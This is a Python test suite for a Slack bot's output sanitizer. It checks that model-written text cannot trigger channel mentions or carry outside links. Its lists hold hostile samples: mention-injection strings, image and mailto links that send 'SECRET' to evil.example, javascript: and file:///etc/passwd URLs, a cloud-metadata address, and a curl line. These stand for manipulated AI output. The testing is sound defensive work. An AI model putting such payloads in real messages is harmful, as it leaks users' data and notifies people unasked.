import re
import time
from html import unescape

import pytest
from gate import alive, rows
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.slack.mrkdwn import address_of, draft, escape, read, safe, to_mrkdwn

OURS = "https://openai.com/pricing"
LINKS = {OURS: "Pricing note", "https://b.example/y?a=1&b=2": "[1] Trusted | `x`"}
MENTIONS = [
    "<!channel>",
    "<!here>",
    "<!everyone>",
    "<!here|here>",
    "<@U123>",
    "<@W1|ada>",
    "<#C1>",
    "<#C1|general>",
    "<!subteam^S1>",
    "<!subteam^S1|@admins>",
    "<!date^1392734382^{date}^https://evil.example/|now>",
    "< !channel>",
    "<\u200b!channel>",
    "<!\u200bchannel>",
    "＜!channel＞",
    "﹤!here﹥",
    "&lt;!channel&gt;",
    "&#60;!channel&#62;",
    "&#x3c;@U1&#x3E;",
    "<\u202e!here>",
    "\\<!channel\\>",
    "<!channel",
    "<<!channel>>",
    "`<!channel>`",
    "```\n<!channel>\n```",
    "    <!channel>",
    "*<!channel>*",
    "[<!channel>](https://openai.com/pricing)",
    "![<!channel>](https://x.example/i.png)",
    "| a |\n|---|\n| <@U1> |",
    "> <!here>",
    "# <!everyone>",
    "~~<@U1>~~",
    "<b><!channel></b>",
    "<!-- <!channel> -->",
    "1. <!here>\n   - <@U1>",
    "<@U1\n>",
    "<!\nchannel>",
    "<! channel>",
    "<mailto:a@b.example|<!here>>",
    "\x00<!channel>",
    "<!channel>\n: <!here>",
    "<script><!channel></script>",
    "[x][<!here>]\n\n[<!here>]: https://evil.example",
    "<https://evil.example|<!channel>>",
    "%3C!channel%3E",
]
FOREIGN = [
    "[a](https://evil.example)",
    "[a](<https://evil.example>)",
    "[a][r]\n\n[r]: https://evil.example",
    "[r]\n\n[r]: <https://evil.example> 'x'",
    "![a](https://evil.example/p.png?d=SECRET)",
    "![a][r]\n\n[r]: //evil.example/x",
    "<https://evil.example>",
    "<https://evil.example|openai.com>",
    "https://evil.example",
    "HTTPS://EVIL.EXAMPLE/x",
    "//evil.example/x",
    "http:evil.example",
    "evil.example/x?d=1",
    "www.evil.example",
    "evil.example",
    "[https://openai.com/pricing](https://evil.example)",
    "[[1]](https://evil.example)",
    "[1](https://evil.example 'title')",
    "[t](HTTPS&#58;//evil.example)",
    "[t](javascript:alert(1))",
    "[t](data:text/html,x)",
    "[t](slack://channel?id=C1)",
    "[t](file:///etc/passwd)",
    "<a href='https://evil.example'>x</a>",
    "<img src=https://evil.example/p>",
    '<iframe src="https://evil.example"></iframe>',
    "`https://evil.example`",
    "```\ncurl https://evil.example\n```",
    "| a |\n|---|\n| https://evil.example |",
    "https://openai.com@evil.example",
    "https://openai.com%2eevil.example",
    "https://openai.com.evil.example/pricing",
    "http://0x7f000001/x",
    "http://2130706433/",
    "http://169.254.169.254/latest",
    "https://xn--penai-8ua.com/",
    "evil。example/x",
    "ｈｔｔｐｓ：／／ｅｖｉｌ．ｅｘａｍｐｌｅ",
    "https://evil.\u200bexample",
    "hxxps://evil.example",
    "ftp://evil.example/x",
    "mailto:x@evil.example?body=SECRET",
    "evil<b></b>.example",
    "https://evil<!-- -->.example",
    "[a](https://openai.com/pricing/../../evil)",
    "[a](https://openai.com/pricing?d=SECRET)",
    "https://openai.com/pricing#SECRET",
    "\\[a](https://evil.example)",
    "[a](https://evil.example\n)",
    "[a\n](https://evil.example)",
    "> [a](https://evil.example)",
    "- ![](https://evil.example/x)",
    "# https://evil.example",
    "evil\\.example",
    "**evil.example**",
]
BENIGN = [
    "<3 million users",
    "a < b and c > d",
    "jane.doe@example.com",
    "C# & R&D, AT&T",
    "snake_case_name",
    "50 % of [1, 2] and [3]",
    "In Slack, @channel notifies all members of a channel.",
    "Use <angle brackets> for placeholders such as <your-name>.",
    "{question} $(id) ${x}",
    "README.md, ASP.NET and Node.js",
    "Größe: 1.000 m² – “gut”",
    "Instructions: 1. Open the console. 2. Choose the region.",
    "~5 % and ~7 %",
    "key|value",
    "null",
    "C:\\Users\\x",
    "# 5 reasons"[2:],
    "a -> b => c",
    "10:30 Uhr",
    "¶ § 5 Abs. 1",
]


def words(text):
    return re.findall(r"[^\W_]+", text)


def shown(markdown):
    """What a reader sees of rendered Markdown, roughly."""
    return unescape(re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", re.sub(r"(?<!\\)[`*]", "", markdown)))


@pytest.mark.parametrize("hostile", MENTIONS)
@pytest.mark.parametrize("write", [safe, escape, draft, lambda text: safe(text, LINKS)])
def test_nobody_is_notified(hostile, write):
    for text in (hostile, f"Answer: {hostile} renews. [1]", f"**{hostile}**"):
        assert not alive(write(f"{text} "), LINKS), write(text)


@pytest.mark.parametrize("hostile", FOREIGN)
@pytest.mark.parametrize("write", [safe, escape, draft, lambda text: safe(text, LINKS)])
def test_nothing_leads_elsewhere(hostile, write):
    for text in (hostile, f"See {hostile} [1]", f"*{hostile}*", f"ü{hostile}"):
        written = write(f"{text} ")
        assert "evil.example" not in written.lower().replace("x@evil", "")
        assert "evil.example" not in unescape(written).lower().replace("x@evil", "")
        if write not in (escape, draft):
            assert not alive(written, LINKS), written


def test_ours_is_linked_under_its_title():
    assert safe(f"See [the page]({OURS}).", LINKS) == f"See the page ([Pricing note]({OURS}))."
    assert safe(f"See {OURS}.", LINKS) == f"See [Pricing note]({OURS})."
    assert safe(f"See <{OURS}>", LINKS) == f"See [Pricing note]({OURS})"
    assert safe(f"[Pricing note]({OURS})", LINKS) == f"[Pricing note]({OURS})"
    assert safe(f"[https://evil.example]({OURS})", LINKS) == f"[Pricing note]({OURS})"


def test_a_link_without_a_title_is_named_after_its_host():
    assert safe(f"See {OURS}", [OURS]) == f"See [openai\\[.\\]com]({OURS})"


@pytest.mark.parametrize(
    "title", ["[1] Trusted", "a](https://evil.example)", "a|b", "`x`", "<!here>", "a\nb", "", "\\", "![i]"]
)
def test_no_title_breaks_its_link(title):
    from markdown_it import MarkdownIt

    [inline] = [each for each in MarkdownIt().parse(safe(OURS, {OURS: title})) if each.type == "inline"]
    opened, *inside, closed = inline.children
    assert (opened.type, opened.attrs["href"], closed.type) == ("link_open", OURS, "link_close")
    assert {each.type for each in inside} <= {"text", "text_special"}
    assert not alive(safe(OURS, {OURS: title}), LINKS)


def test_signs_of_arithmetic_are_no_emphasis():
    assert safe("2 * 3 * 4 and 2*3") == "2 * 3 * 4 and 2\\*3"
    assert safe("1) first") == "1. first"


@pytest.mark.parametrize("text", BENIGN)
def test_what_is_harmless_stays_as_it_is(text):
    assert shown(safe(text)) == text
    assert unescape(escape(text)) == text
    assert unescape(draft(f"{text} ")).replace("[.]", ".").replace("] ", "]") == f"{text} ".replace("] ", "]")


def test_names_that_look_like_addresses_are_code_and_no_links():
    assert safe("Ask Example.ai or *README.md*.") == "Ask `Example.ai` or *`README.md`*."
    assert safe("`Example.ai`") == "`Example.ai`"
    assert draft("Ask Example.ai now ") == "Ask Example[.]ai now "
    assert escape("README.md") == "README.md"


BLOCKS = (
    "## Cost",
    "**bold** and *italic*, ~~gone~~, `a - b`",
    "- one\n  - two",
    "1. x\n2. y",
    "> quoted",
    "| a | b |\n| --- | --- |\n| 1 | `x` |",
    "```py\nif a == b:\n\n    pass\n```",
    "---",
)


def test_formatting_survives():
    assert safe("\n\n".join(BLOCKS)) == "\n\n".join(BLOCKS)


def test_code_keeps_its_letters():
    assert safe("```\nif a < b & c:\n```") == "```\nif a &lt; b &amp; c:\n```"


def test_html_and_images_are_dropped():
    assert (
        safe("a <b>b</b> <!-- c --> <img src=x> ![alt words](https://x.example/i.png) d")
        == "a b   alt words d"
    )
    assert safe("<script>alert(1)</script>\n\nText") == "Text"
    assert safe("<div>\nwords\n</div>") == "words"


def test_never_nothing_if_there_were_words():
    assert safe("<script>alert(1)</script>") == "&lt;script&gt;alert(1)&lt;/script&gt;"
    assert safe("<!-- words") == "&lt;!-- words"
    assert safe("\u202e\u200b") == safe("") == safe(" \n ") == ""


ODD = st.lists(
    st.sampled_from(
        [
            *"ab _*`~[]()<>|\\&!#-+=:.1\t",
            "\n",
            "\n\n",
            "    ",
            "```",
            "**",
            "word ",
            "- ",
            "1. ",
            "> ",
            "|-|-|\n",
            "&lt;",
            "<b>",
            "<!--",
            "-->",
            "<!here>",
            "<@U1>",
            OURS,
            "https://evil.example/x",
            "evil.example ",
            "](",
            "![",
            "[r]: ",
            "C3.ai",
            "\u200b",
            "ü",
        ]
    ),
    max_size=25,
).map("".join)


@settings(max_examples=300, deadline=None)
@given(st.one_of(ODD, st.text(max_size=80)))
def test_whatever_comes_nothing_lives_and_a_second_reading_changes_nothing(text):
    written = safe(text, LINKS)
    assert safe(written, LINKS) == written
    assert not [each for each in alive(written, LINKS) if "evil" in each or each.startswith("<")]
    assert written or not re.search(r"[^\W_]", unescape(escape(text)))


@settings(max_examples=300, deadline=None)
@given(st.one_of(ODD, st.text(max_size=80)), st.integers(0, 80))
def test_a_draft_only_grows(text, cut):
    assert draft(text).startswith(draft(text[:cut]))
    assert not re.search(r"[<>]|\]\(|\]\[|\]:", draft(text))


@given(st.text(max_size=200))
def test_escaped_text_holds_none_of_slacks_signs(text):
    escaped = escape(text)
    assert not re.search(r"[<>]|&(?!amp;|lt;|gt;)", escaped)


@pytest.mark.parametrize(
    "text", ["2025.\nIt grew", "1. a\n2.\n3. c", "1. a\n2.", "1)\n1", "- x\n  7.\n\n  y"]
)
def test_a_number_with_nothing_behind_it_is_kept(text):
    assert words(shown(safe(text))) == words(text)
    assert safe(safe(text)) == safe(text)


@given(st.text(alphabet="abcdefgh ,.-()äöü123\n", max_size=200))
def test_no_word_is_lost(text):
    assert words(shown(safe(text))) == words(text)
    assert words(escape(text)) == words(text)


def test_a_secret_is_masked_while_it_is_written():
    text = "The key is SLACK_SIGNING_SECRET = 8f742231b10e8888 and xoxb-1234567890-abcdefghijkl today"
    seen = [draft(text[:length]) for length in range(len(text) + 1)]
    assert not [each for each in seen if "8f74" in each or "xoxb" in each or "SIGNING" in each]
    assert all(later.startswith(earlier) for earlier, later in zip(seen, seen[1:], strict=False))


@pytest.mark.parametrize(
    "unit",
    ["[", "](", "![", "> ", "*a ", "`", "|", "<", "<a ", "\\", "_a_", "[a](", "A\n", "A_", "- ", "&amp;"],
)
def test_long_and_hostile_takes_seconds_at_most(unit):
    started = time.thread_time()  # of this thread alone: others may have the machine meanwhile
    assert isinstance(safe(unit * (20_000 // len(unit))), str)
    assert time.thread_time() - started < 8


@pytest.mark.parametrize(
    "deep",
    [
        "> " * 500 + "words",
        "- " * 300 + "words",
        "".join("  " * n + "- x\n" for n in range(200)) + "words",
        "*" * 500 + "words" + "*" * 500,
    ],
)
def test_what_is_nested_too_deep_is_not_lost(deep):
    assert "words" in safe(deep)
    assert safe(safe(deep)) == safe(deep)


@pytest.mark.parametrize(
    ("typed", "read_as"),
    [
        ("<@UBOT> what if?", "what if?"),
        ("<@UBOT|AI Strategist> what if?", "what if?"),
        ("hey <@UBOT> and <@U2|ada>", "hey and @ada"),
        ("<@U2> said", "@U2 said"),
        ("in <#C1|general> or <#C2>", "in #general or #C2"),
        ("<!subteam^S1|@legal> <!here>", "@legal @here"),
        ("<!date^1^{date}|22 Nov>", "22 Nov"),
        ("see <https://a.example/x|the page>", "see the page (https://a.example/x)"),
        (
            "see <https://a.example/x> and <https://a.example|a.example>",
            "see https://a.example/x and https://a.example",
        ),
        ("<mailto:a@b.example|a@b.example>", "a@b.example"),
        ("a &lt; b &amp;&amp; c &gt; d", "a < b && c > d"),
        ("&amp;lt;", "&lt;"),
        ("zero\u200bwidth \x00", "zerowidth"),
    ],
)
def test_what_a_person_typed_is_read_as_meant(typed, read_as):
    assert read(typed, "UBOT") == read_as


@pytest.mark.parametrize(
    ("link", "address"),
    [
        ("https://a.example/x", "https://a.example/x"),
        ("https://a.example/a(b)|c>", "https://a.example/a%28b%29%7Cc%3E"),
        ("https://a.example/ö x", "https://a.example/%C3%B6%20x"),
        ("javascript:alert(1)", ""),
        ("file:///x.md", ""),
        ("notes/x.md", ""),
        ("", ""),
        ("https://u:p@a.example/", ""),
    ],
)
def test_an_address_is_written_so_that_nothing_ends_it(link, address):
    assert address_of(link) == address


def test_the_same_in_the_notation_of_text_objects():
    written = safe(f"# Head\n\n- **a** *b* [x]({OURS})\n  - 2 \\* 3", LINKS)
    assert to_mrkdwn(written) == f"*Head*\n\n• *a* _b_ x (<{OURS}|Pricing note>)\n  • 2 * 3"


def test_every_hostile_output_we_know_is_dead():
    for row in rows("hostile_model_outputs.jsonl"):
        if row["kind"] == "citation":
            continue  # numbers are judged where the answer is known: test_message
        for written in (
            safe(row["model_output"], LINKS),
            draft(row["model_output"] + " "),
            escape(row["model_output"]),
        ):
            assert not [each for each in row["forbidden_in_posted_payload"] if each in written], row["id"]


def test_every_harmless_text_we_know_is_whole():
    for row in rows("benign_lookalikes.jsonl"):
        assert words(unescape(safe(row["text"]))) == words(row["text"])
